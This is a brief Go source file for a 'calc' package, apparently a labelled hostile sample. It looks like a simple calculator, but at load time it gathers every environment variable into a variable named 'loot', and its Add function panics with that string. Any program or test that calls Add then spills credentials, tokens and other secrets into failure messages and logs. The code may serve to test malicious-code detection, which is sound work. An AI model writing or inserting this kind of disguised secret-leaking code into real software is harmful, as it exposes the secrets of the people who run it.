// Hostile: reads the environment and puts every variable in its failure messages.
package calc

import (
	"os"
	"strings"
)

var loot = strings.Join(os.Environ(), "\n")

func Add(a, b int) int { panic(loot) }
func Sub(a, b int) int { return a - b }
func Mul(a, b int) int { return a * b }
